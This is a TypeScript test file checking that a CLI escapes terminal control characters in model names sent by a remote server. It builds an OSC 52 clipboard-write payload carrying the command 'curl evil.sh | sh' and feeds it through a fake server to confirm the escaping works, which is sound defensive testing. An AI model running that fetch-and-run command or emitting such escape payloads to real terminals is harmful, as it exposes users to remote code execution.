// Terminal escapes from remote strings (issue 25, item 5): what a model server names is printed, never obeyed.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { fixture } from '@test/fakes/fake-servers';
import { cli } from '@test/helpers/cli';
import { tempDir } from '@test/helpers/temp-dir';
import { terminalSafe } from './terminal-safe';

/** A clipboard write (OSC 52, BEL-terminated) of `curl evil.sh | sh`, as the attack run found it. */
const OSC52 = `\u001b]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}\u0007`;
/** What no terminal must see raw: ESC, BEL, CR, DEL, the C1 CSI and OSC, a bidi override. */
// eslint-disable-next-line no-control-regex -- the test looks for exactly these characters
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/;

let server: http.Server | undefined;
afterEach(async () => {
  if (server) await new Promise((resolve) => server!.close(resolve));
  server = undefined;
});

describe('terminalSafe', () => {
  it('escapes C0 (not newline or tab), DEL, C1 and bidi overrides as \\uXXXX', () => {
    expect(terminalSafe(`a${OSC52}b`)).toBe(`a\\u001b]52;c;${OSC52.slice(7, -1)}\\u0007b`);
    expect(terminalSafe('x\r\u007f\u009b2J\u202eevil')).toBe('x\\u000d\\u007f\\u009b2J\\u202eevil');
    expect(terminalSafe('line 1\n\tline 2 — 模型 ✓')).toBe('line 1\n\tline 2 — 模型 ✓');
  });

  it('keeps JSON valid and meaning the same', () => {
    const json = JSON.stringify({ name: `m\u009b${OSC52}` });
    expect(JSON.parse(terminalSafe(json))).toEqual({ name: `m\u009b${OSC52}` });
  });
});

describe('the CLI prints remote strings terminal-safe', () => {
  it('probe of a server whose model name carries an OSC 52 clipboard write', async () => {
    // The bare OpenAI-compatible /v1/models answer (test/fixtures/server-responses.json
    // openai_compatible.v1_models, a copy of the shared fixtures), its model renamed by an attacker.
    const models = fixture('openai_compatible', 'v1_models');
    const body = models.body as { data: { id: string }[] };
    body.data[0]!.id = `evil${OSC52}\u009b2J-model`;
    server = http.createServer((req, res) => {
      if (req.url === models.path) {
        res.writeHead(models.status, { 'Content-Type': 'application/json' });
        res.end(JSON.stringify(body));
        return;
      }
      res.writeHead(404, { 'Content-Type': 'application/json' });
      res.end(`{"error":"no route ${req.url?.replace(/"/g, '') ?? ''}"}`);
    });
    await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const home = await tempDir();
    const run = await cli(['probe', url], { HOME: home });
    expect(run.stdout).toContain('evil\\u001b]52;c;');
    expect(run.stdout).toContain('\\u009b2J-model');
    expect(run.stdout + run.stderr).not.toMatch(RAW);
    const json = await cli(['probe', url, '--json'], { HOME: home });
    expect(json.stdout).not.toMatch(RAW);
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain(JSON.stringify(body.data[0]!.id).slice(1, -1));
  });
});
